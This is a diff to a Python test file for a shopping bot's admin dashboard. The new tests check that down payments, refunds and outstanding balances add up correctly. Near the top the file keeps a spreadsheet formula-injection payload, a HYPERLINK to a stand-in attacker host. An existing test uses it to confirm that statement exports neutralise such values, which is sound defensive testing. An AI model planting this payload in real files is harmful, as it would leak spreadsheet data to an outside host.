@@ -14,16 +14,17 @@ import re
 from sqlalchemy import update
 
 from bot import jobs
-from services import exports, reconcile
+from services import amounts, exports, reconcile
 from services.statements import Credit
 from storage.demo import DEMO_PHONE
 from storage.models import Trip
+from storage.repo.panel import OrderMoney
 from tests.conftest import Harness
 from tests.test_admin_jastiper_web import browser
 from tests.test_admin_jastiper_web import logged_in as jastiper_logged_in
 from tests.test_admin_panel import logged_in as admin_logged_in
 from tests.test_buyer_journey import joined, order_one
-from tests.test_money import CALBEE, exact, order_code, pay, the_order, tina
+from tests.test_money import CALBEE, ROYCE, exact, order_code, pay, the_order, tina
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
 
@@ -205,3 +206,103 @@ def test_a_statement_line_kept_as_proof_is_neutralised() -> None:
     credit = Credit(dt.date(2026, 12, 7), 75_123, EVIL, None, "k")
     _header, line = list(csv.reader(io.StringIO(reconcile.line_file(credit).decode())))
     assert line[1] == "'" + EVIL and line[2] == "75123"
+
+
+def test_figures_add_up_what_each_order_row_shows() -> None:
+    """``amounts.figures``: per status the sum of the amounts (unique digits in); a DP
+    order counts its down payment as money in and its unbilled balance as still due; a
+    refunded order counts what stays, the refund owed or returned apart."""
+    waiting = OrderMoney("awaiting_payment", 100_000, 123, 100_123, 0, 0, 0)
+    dp_paid = OrderMoney("dp_paid", 200_000, 45, 100_045, 100_045, 0, 0)
+    # 2× 125.000 paid (250.077), then one item not found: 125.000 owed back
+    owed = OrderMoney("paid", 125_000, 77, 125_077, 250_077, 125_000, 0)
+    returned = OrderMoney("paid", 125_000, 88, 125_088, 250_088, 0, 125_000)
+    cancelled = OrderMoney("cancelled", 50_000, 11, 50_011, 0, 0, 0)
+    got = amounts.figures([waiting, dp_paid, owed, returned, cancelled])
+    assert [amounts.amount(o) for o in (waiting, dp_paid, owed, returned, cancelled)] == [
+        100_123,
+        200_045,
+        125_077,
+        125_088,
+        50_011,
+    ]
+    assert got.by_status == {
+        "awaiting_payment": (1, 100_123),
+        "dp_paid": (1, 200_045),
+        "paid": (2, 125_077 + 125_088),
+        "cancelled": (1, 50_011),
+    }
+    assert got.received == 100_045 + 125_077 + 125_088
+    assert got.outstanding == 100_123 + 100_000  # the unpaid order, the DP's balance
+    assert (got.refund_due, got.refunded) == (125_000, 125_000)
+    assert amounts.figures([]) == amounts.Figures(by_status={})
+
+
+def money_of(text: str) -> int:
+    return int(text.replace("Rp", "").replace(".", "").strip())
+
+
+ROW = re.compile(
+    r'href="/admin/orders/(JP-\w+)">.*?data-label="Status">([^<]+)</td>\s*'
+    r'<td data-label="Total" class="n">([^<]+)</td>',
+    re.S,
+)
+STATUS_ROW = re.compile(r'<tr><td>([^<]+)</td><td class="n">(\d+)</td><td class="n">([^<]+)</td>')
+
+
+def figure(page: str, label: str) -> int:
+    found = re.search(r'"num">([^<]+)</span><span>' + re.escape(label) + "<", page)
+    assert found, label
+    return money_of(found.group(1))
+
+
+async def test_the_dashboard_adds_up_dp_and_refunded_orders_as_their_rows_show(
+    harness: Harness,
+) -> None:
+    h = harness
+    await h.seed_demo()
+    # Sari pays 2× Royce in full, then one is not found: Rp 260.000 is owed back to her
+    sari = await joined(h, "Sari")
+    refunded = await order_code(h, sari, ROYCE, "2")  # 2× 250.000 + 2× 10.000 fee
+    await pay(h, sari)
+    await tina(h, f"/refund {refunded} 1 1")
+    # then the trip asks a 50 % down payment: Budi pays his, Dewi nothing yet
+    async with h.db.transaction() as session:
+        await session.execute(update(Trip).values(payment_type="dp", dp_percent=50))
+    budi = await joined(h, "Budi")
+    dp = await order_code(h, budi, CALBEE, "1")  # 65.000 + 10.000 fee: DP 37.500
+    await pay(h, budi)
+    dewi = await joined(h, "Dewi")
+    unpaid = await order_code(h, dewi, CALBEE, "1")
+    s, b, d = [await the_order(h, c) for c in (refunded, dp, unpaid)]
+    assert (s.status, s.refund_due, b.status) == ("paid", 260_000, "dp_paid")
+
+    await admin_logged_in(h)
+    rows = ROW.findall(await (await h.client.get("/admin/orders")).text())
+    shown = {code: (label, money_of(total)) for code, label, total in rows}
+    assert shown == {
+        refunded: ("Lunas", 260_000 + s.unique_cents),
+        dp: ("DP lunas", 75_000 + b.unique_cents),
+        unpaid: ("Menunggu pembayaran", 75_000 + d.unique_cents),
+    }
+    page = await (await h.client.get("/admin/")).text()
+    table = {label: (int(n), money_of(total)) for label, n, total in STATUS_ROW.findall(page)}
+    assert table == {label: (1, total) for label, total in shown.values()}
+    # money in: what Sari keeps after the refund and Budi's DP; due: Budi's balance, Dewi
+    assert figure(page, "Uang masuk (refund dikurangi)") == 260_000 + s.unique_cents + (
+        37_500 + b.unique_cents
+    )
+    assert figure(page, "Belum dibayar") == 37_500 + 75_000 + d.unique_cents
+    detail = await (await h.client.get(f"/admin/orders/{refunded}")).text()
+    assert 'Refund belum dikembalikan</td><td class="n">Rp 260.000' in detail
+    assert figure(page, "Refund belum dikembalikan") == 260_000
+    assert "Refund sudah dikembalikan" not in page
+
+    # the refund is returned: it moves from owed to returned, money in is unchanged
+    await tina(h, f"/refunded {refunded}")
+    after = await (await h.client.get("/admin/")).text()
+    assert figure(after, "Refund sudah dikembalikan") == 260_000
+    assert "Refund belum dikembalikan" not in after
+    assert figure(after, "Uang masuk (refund dikurangi)") == figure(
+        page, "Uang masuk (refund dikurangi)"
+    )
